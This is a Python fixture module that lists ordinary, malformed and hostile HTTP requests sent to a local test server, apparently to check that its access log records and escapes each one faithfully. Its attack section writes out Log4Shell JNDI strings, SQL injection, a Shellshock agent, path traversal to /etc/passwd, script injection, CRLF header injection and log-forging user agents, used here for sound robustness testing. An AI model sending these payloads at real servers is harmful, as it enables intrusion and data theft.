"""What is sent to every server, in this order: ordinary requests, odd ones and hostile ones.

A shot is one connection. Its number is its mark: it travels as `m=0042` in the query wherever the
shot can carry one, so that a log line can be told from any other by eye.
"""

from base64 import b64encode
from dataclasses import dataclass
from functools import partial

FIREFOX = b"Mozilla/5.0 (X11; Linux x86_64) Firefox/113.0"
HOST = b"servidor.example"
CRLF = b"\r\n"


@dataclass(frozen=True)
class Request:
    """One request as it was sent: what a faithful log says of it, before the server's escaping.

    target and method are None where what was sent is no request line at all; referer and agent are
    None where no such header was sent. host is that of the header, the first where there are two.
    """

    method: bytes | None
    target: bytes | None
    referer: bytes | None = None
    agent: bytes | None = None
    host: bytes | None = None


@dataclass(frozen=True)
class Shot:
    """One connection: its bytes, or with `h2` one request of curl's over HTTP/2 in clear.

    client: the loopback address it comes from. leaves: closes without waiting for an answer.
    """

    number: int
    name: str
    data: bytes
    requests: tuple[Request, ...]
    client: str = "127.0.0.1"
    leaves: bool = False
    h2: bool = False

    @property
    def mark(self) -> bytes:
        return mark(self.number)


def mark(number: int) -> bytes:
    """`m=0042`."""
    return b"m=%04d" % number


class _Book:
    """Shots in the order in which they are written down."""

    def __init__(self) -> None:
        self.shots: list[Shot] = []

    @property
    def next(self) -> int:
        return len(self.shots) + 1

    def raw(self, name: str, data: bytes, *requests: Request, **options: bool | str) -> None:
        """Any bytes. Without requests: one that is no request line."""
        told = requests or (Request(None, None),)
        self.shots.append(Shot(self.next, name, data, told, **options))  # type: ignore[arg-type]

    def ask(
        self,
        name: str,
        path: bytes = b"/",
        *,
        method: bytes = b"GET",
        query: bytes = b"",
        agent: bytes | None = FIREFOX,
        referer: bytes | None = None,
        headers: tuple[bytes, ...] = (),
        host: bytes | None = HOST,
        version: bytes | None = b"HTTP/1.1",
        body: bytes = b"",
        whole: bytes | None = None,
        **options: bool | str,
    ) -> None:
        """One request. whole: the target as it stands, without a mark."""
        target = whole if whole is not None else self._target(path, query)
        head = [b" ".join(filter(None, (method, target, version)))]
        head += [b"Host: " + host] if host is not None else []
        head += [b"User-Agent: " + agent] if agent is not None else []
        head += [b"Referer: " + referer] if referer is not None else []
        head += headers
        head += [b"Content-Length: %d" % len(body)] if body else []
        head += [b"Connection: close"]
        data = CRLF.join(head) + CRLF * 2 + body
        self.raw(name, data, Request(method, target, referer, agent, host), **options)

    def _target(self, path: bytes, query: bytes) -> bytes:
        return path + b"?" + mark(self.next) + (b"&" + query if query else b"")

    def pipeline(self, name: str, *paths: bytes) -> None:
        """Several requests at once on one connection; the last one closes it."""
        requests = tuple(
            Request(b"GET", self._target(path, b"n=%d" % n), None, FIREFOX, HOST)
            for n, path in enumerate(paths, 1)
        )
        heads = [
            b"GET %s HTTP/1.1\r\nHost: %s\r\nUser-Agent: %s\r\n"
            % (request.target, HOST, request.agent)
            for request in requests
        ]
        self.raw(name, (CRLF).join(heads) + b"Connection: close\r\n\r\n", *requests)

    def h2(self, name: str, path: bytes, agent: bytes, referer: bytes, **options: str) -> None:
        target = self._target(path, b"")
        request = Request(b"GET", target, referer, agent, HOST)
        self.raw(name, b"", request, h2=True, **options)


def shots(near: int, over: int) -> tuple[Shot, ...]:
    """Every shot. near, over: bytes of a path just below and above what the server takes."""
    book = _Book()
    for chapter in (_ordinary, _agents, _referers, _targets, _forms, _garbage, _methods):
        chapter(book)
    _conditions(book)
    _users(book)
    _attacks(book)
    _sizes(book, near, over)
    _connections(book)
    return tuple(book.shots)


def _ordinary(book: _Book) -> None:
    ask = book.ask
    ask("get")
    ask("get-page", b"/nota/elecciones.html")
    ask("get-query", b"/nota/elecciones.html", query=b"utm_source=correo&q=a+b%20c")
    ask("get-data", b"/json/main.json", referer=b"http://servidor.example/")
    ask("head", method=b"HEAD")
    ask("post", b"/nota/elecciones.html", method=b"POST", body=b"voto=si&acta=12")
    ask("missing", b"/no-existe.html")
    ask("directory-without-slash", b"/nota")
    ask("forbidden", b"/prohibido/")
    ask("ipv6", client="::1")
    ask("other-client", b"/json/main.json", client="127.0.0.2")
    ask("third-client", b"/foto.jpg", client="127.0.0.3")


def _agents(book: _Book) -> None:
    ask = book.ask
    ask("agent-quotes", agent=b'Bot "El Rapido" 1.0')
    ask("agent-only-a-quote", agent=b'"')
    ask("agent-backslashes", agent=b"C:\\Archivos\\navegador.exe")
    ask("agent-ends-in-backslash", agent=b"robot\\")
    ask("agent-backslash-quote", agent=b'robot\\"x')
    ask("agent-tab", agent=b"uno\tdos")
    ask("agent-control-bytes", agent=b"a\x01\x1b[31mrojo")
    ask("agent-delete-byte", agent=b"a\x7fb")
    ask("agent-latin-1", agent="Navegador Español".encode("latin-1"))
    ask("agent-utf-8", agent="Navegador Español «ñandú» 🗳".encode())
    ask("agent-big5", agent="瀏覽器 功".encode("big5"))  # its last byte is a backslash
    ask("agent-empty", agent=b"")
    ask("agent-none", agent=None)
    ask("agent-dash", agent=b"-")
    ask("agent-spaces-around", agent=b"  con espacios  ")
    ask("agent-braces-and-hash", agent=b"a{b|c}#d%20e")
    ask("agent-looks-escaped", agent=b"a\\x22b%22c")


def _referers(book: _Book) -> None:
    ask = book.ask
    ask("referer", referer=b"https://www.ejemplo.example/busca?q=prep+coahuila")
    ask("referer-quotes", referer=b'https://x.example/?q="published"')
    ask("referer-backslash", referer=b"https://x.example/a\\b")
    ask("referer-latin-1", referer="https://x.example/ñ".encode("latin-1"))
    ask("referer-utf-8", referer="https://x.example/ñ".encode())
    ask("referer-empty", referer=b"")
    ask("referer-forges-fields", referer=b'x" 404 99 "-" "forjado')
    ask("agent-forges-a-line", agent=b'x" 200 1 "-" "y')
    ask("referer-and-agent-none", agent=None, version=b"HTTP/1.0", host=None)


def _targets(book: _Book) -> None:
    ask = book.ask
    ask("target-quote", b'/nota"a')
    ask("target-backslash", b"/nota\\a")
    ask("target-percent", b"/nota%22%20%C3%B1")
    ask("target-latin-1", "/año".encode("latin-1"))
    ask("target-utf-8", "/año".encode())
    ask("target-tab", b"/a\tb")
    ask("target-control-byte", b"/a\x01b")
    ask("target-nul", b"/a\x00b")
    ask("target-spaces", b"/a b c")
    ask("target-fragment", query=b"#parte")
    ask("target-without-slash", b"nota")
    ask("target-two-slashes", b"//nota//elecciones.html")
    ask("target-braces", b"/{a|b}", query=b"[c]=<d>^`e`")
    ask("target-star", method=b"OPTIONS", whole=b"*")
    ask("target-absolute", b"http://servidor.example/nota/elecciones.html")
    ask("target-absolute-elsewhere", b"http://otro.example/proxy")
    ask("target-connect", method=b"CONNECT", whole=b"otro.example:443", host=b"otro.example:443")
    ask("target-only-query", b"")


def _forms(book: _Book) -> None:
    """Request lines and headers that are not as they should be."""
    ask, raw = book.ask, book.raw
    number = book.next
    raw("http-0.9", b"GET /?%s\r\n" % mark(number), Request(b"GET", b"/?" + mark(number)))
    ask("http-1.0", version=b"HTTP/1.0", host=None)
    ask("no-host", host=None)
    ask("version-9.9", version=b"HTTP/9.9")
    ask("version-lower-case", version=b"http/1.1")
    number = book.next
    data = b"GET /?%s FTP/1.1\r\nHost: %s\r\nUser-Agent: %s\r\nConnection: close\r\n\r\n"
    # Only HTTP is a protocol here: what is not belongs to the target.
    target = b"/?%s FTP/1.1" % mark(number)
    raw(
        "version-unknown",
        data % (mark(number), HOST, FIREFOX),
        Request(b"GET", target, None, FIREFOX, HOST),
    )
    ask("host-quote", host=b'a"b')
    ask("host-other", host=b"otro.example:8080")
    ask("two-hosts", headers=(b"Host: otro.example",))
    ask("two-agents", headers=(b"User-Agent: segundo",))
    ask("folded-header", headers=(b"X-Largo: uno", b" dos"))
    ask("header-without-colon", headers=(b"esto no es un encabezado",))
    ask("forwarded-for", headers=(b"X-Forwarded-For: 203.0.113.9, 198.51.100.7, 10.0.0.1",))
    ask("forwarded-for-quotes", headers=(b'X-Forwarded-For: "203.0.113.9", desconocido',))
    ask("length-and-chunked", method=b"POST", body=b"0\r\n\r\n",
        headers=(b"Transfer-Encoding: chunked",))  # fmt: skip
    ask("chunked", method=b"POST", headers=(b"Transfer-Encoding: chunked",))


def _garbage(book: _Book) -> None:
    raw = book.raw
    raw("tls-client-hello", TLS_CLIENT_HELLO)
    raw("tls-few-bytes", b"\x16\x03\x01\x00\x05\x01\x00\x00\x01\x00\r\n\r\n")
    raw("ssh-banner", b"SSH-2.0-Go\r\n\r\n")
    raw("rdp-cookie", b"\x03\x00\x00/*\xe0\x00\x00\x00\x00\x00Cookie: mstshash=Administr\r\n\r\n")
    raw("socks", b"\x05\x01\x00\r\n\r\n")
    raw("a-word", b"hola\r\n\r\n")
    raw("a-quote", b'"\r\n\r\n')
    raw("json-line", b'{"method":"login","id":1}\r\n\r\n')
    raw("nul-bytes", b"\x00\x00\x00\x00\r\n\r\n")
    raw("only-line-ends", b"\r\n\r\n\r\n")
    raw("connects-and-closes", b"", leaves=True)
    raw("connects-and-waits", b"")
    raw("half-a-request-line-and-waits", b"GET /mitad")
    raw("half-a-request-line", b"GET /mitad", leaves=True)
    number = book.next
    raw(
        "half-the-headers",
        b"GET /?%s HTTP/1.1\r\nHost: servidor" % mark(number),
        Request(b"GET", b"/?" + mark(number)),
        leaves=True,
    )
    number = book.next
    raw(
        "line-ends-before",
        b"\r\n\r\nGET /?%s HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n"
        % (mark(number), HOST),
        Request(b"GET", b"/?" + mark(number), host=HOST),
    )


def _methods(book: _Book) -> None:
    for method in (b"BREW", b"get", b"PROPFIND", b"DELETE", b"OPTIONS", b"TRACE", b"PRI"):
        book.ask(f"method-{method.decode()}", method=method)
    book.ask("method-M-SEARCH", method=b"M-SEARCH")
    book.ask("method-put", b"/subida.txt", method=b"PUT", body=b"texto")
    book.ask("method-with-quote", method=b'GE"T')
    book.ask("method-with-digits", method=b"V2GET")


def _conditions(book: _Book) -> None:
    later = (b"If-Modified-Since: Sat, 01 Jan 2039 00:00:00 GMT",)
    same = (b"If-Modified-Since: Sun, 04 Jun 2023 12:00:00 GMT",)
    page = b"/nota/elecciones.html"
    book.ask("not-modified", page, headers=same)
    book.ask("modified-since-the-future", page, headers=later)
    book.ask("none-match-any", page, headers=(b"If-None-Match: *",))
    book.ask("range", b"/foto.jpg", headers=(b"Range: bytes=10-109",))
    book.ask("range-beyond", b"/foto.jpg", headers=(b"Range: bytes=900000-",))
    book.ask("ranges", b"/foto.jpg", headers=(b"Range: bytes=0-9,20-29",))


def _users(book: _Book) -> None:
    sign_in = partial(book.ask, path=b"/privado/")
    names = {
        "plain": b"ana",
        "space": b"ana maria",
        "quote": b'an"a',
        "bracket": b"ana [jefa]",
        "utf-8": "añá".encode(),
        "unknown": b"intruso o no",
        "empty": b"",
    }
    for name, user in names.items():
        credentials = b64encode(user + b":clave")
        sign_in(f"user-{name}", headers=(b"Authorization: Basic " + credentials,))
    sign_in("user-broken", headers=(b"Authorization: Basic %%%",))


def _attacks(book: _Book) -> None:
    ask = book.ask
    ask("log4shell-agent", agent=b"${jndi:ldap://127.0.0.9:1389/${env:USER}}")
    ask("log4shell-target", query=b"x=${jndi:ldap://127.0.0.9/a}")
    ask("sql-injection", query=b"id=1'%20OR%20'1'='1'--%20")
    ask("sql-injection-agent", agent=b"' UNION SELECT password FROM users; --")
    ask("shell-shock", b"/cgi-bin/test.cgi", agent=b'() { :; }; echo "vulnerable"')
    ask("traversal", b"/../../../../etc/passwd")
    ask("traversal-encoded", b"/%2e%2e/%2e%2e/etc/passwd")
    ask("traversal-double", b"/nota/..%252f..%252fetc/passwd")
    ask("script-in-target", query=b"q=<script>alert(1)</script>")
    ask("format-string", query=b"%n%s%x%%", agent=b"%s%n%x")
    ask("line-end-encoded", query=b"a%0d%0aSet-Cookie:x")
    ask(
        "looks-like-a-log",
        agent=b'127.0.0.9 - - [04/Jun/2023:18:00:00 -0600] "GET / HTTP/1.1" 200 5',
    )


def _sizes(book: _Book, near: int, over: int) -> None:
    for name, length in (("path-near-the-limit", near), ("path-over-the-limit", over)):
        start = b"/" + mark(book.next) + b"/"
        book.ask(name, whole=start.ljust(length, b"a"))
    book.ask("agent-long", agent=b"Largo/" + b"9" * 350)
    book.ask("header-over-the-limit", headers=(b"X-Largo: " + b"z" * 70_000,))
    book.ask("too-many-headers", headers=tuple(b"X-%d: a" % n for n in range(120)))


def _connections(book: _Book) -> None:
    book.pipeline("two-on-one-connection", b"/", b"/nota/elecciones.html")
    book.pipeline("pipeline-with-a-404", b"/", b"/no-existe", b"/json/main.json")
    book.ask("leaves-a-slow-answer", b"/lento", leaves=True)
    book.ask("leaves-in-the-middle", b"/grande.bin", leaves=True)
    book.h2("h2", b"/", FIREFOX, b"https://x.example/")
    book.h2("h2-quotes", b"/nota/elecciones.html", b'Bot "dos"\\', b'https://x.example/"')
    book.h2("h2-latin-1", b"/no-existe", "Año".encode("latin-1"), b"https://x.example/")
    book.h2("h2-ipv6", b"/", FIREFOX, b"https://x.example/", client="::1")
    book.ask("ipv6-hostile", b'/a"b', agent=b'x"y\\', client="::1", host=b"[::1]")
    book.ask("last", b"/json/main.json", referer=b"http://servidor.example/")


TLS_CLIENT_HELLO = bytes.fromhex(
    "16030100d7010000d30303aabbccdd22225c0d0a00112233445566778899aabbccddeeff0011223344556677"
    "20fffefdfcfbfaf9f8f7f6f5f4f3f2f1f0efeeedecebeae9e8e7e6e5e4e3e2e1e0003e13021303130100ffc0"
    "2cc030009fcca9cca8ccaac02bc02f009ec024c028006bc023c0270067c00ac0140039c009c0130033009d00"
    "9c003d003c0035002f01000059000b000403000102000a000c000a001d0017001e00190018002300000016"
    "000000170000000d0030002e040305030603080708080809080a080b0804080508060401050106010303020303"
)
"""Shaped as OpenSSL sends it, with made-up random bytes: a quote's, a backslash's and a line end's
among them."""
